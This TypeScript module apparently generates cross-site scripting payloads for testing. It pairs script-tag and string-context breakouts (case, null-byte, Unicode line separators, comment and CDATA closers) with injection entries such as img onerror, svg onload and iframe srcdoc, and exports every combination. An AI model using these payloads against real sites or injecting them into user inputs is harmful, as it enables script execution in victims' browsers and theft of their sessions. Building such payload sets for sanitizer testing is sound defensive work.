import { type Make, pairs } from './kit.ts';

/** What may end a string, a script or a comment. */
const EXITS = [
  '</script>',
  '</ScRiPt>',
  '</script\t>',
  '</script/>',
  '</script x="">',
  '</script\u0000>',
  '<!--</script>',
  '<!--<script></script>',
  ']]></script>',
  '--></script>',
  '"</script>',
  "'</script>",
  '\\</script>',
  '\u2028</script>',
  '\u2029</script>',
  '<!--<script>',
  '<script>',
  '&lt;/script&gt;',
  '\ud800</script>',
];
const STRING_EXITS = [
  '";',
  "';",
  '`;',
  '\\";',
  "\\';",
  '\n',
  '\r',
  '\u2028',
  '\u2029',
  '*/',
  '//\n',
  '-->\n',
  '<!--\n',
  '"}];',
  '"]]);',
  "'+",
  '"+',
  '"-',
  ')',
];

const ENTRIES: readonly Make[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<script>${run}//`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
];

/** Ways out of a value in a script. */
export function script(): Make[] {
  const tags = pairs(EXITS, ENTRIES).map(
    ([exit, entry]): Make =>
      (run) =>
        exit + entry(run),
  );
  const code = STRING_EXITS.flatMap((exit): Make[] => [
    (run) => `${exit}${run}//`,
    (run) => `x${exit}${run};"`,
    (run) => `${exit}(${run})+'`,
  ]);
  const keys: Make[] = [
    (run) => `${'$'}{${run}}`,
    (run) => `\\u003c/script\\u003e<script>${run}</script>`,
    (run) => `__proto__</script><script>${run}</script>`,
  ];
  return [...tags, ...code, ...keys];
}
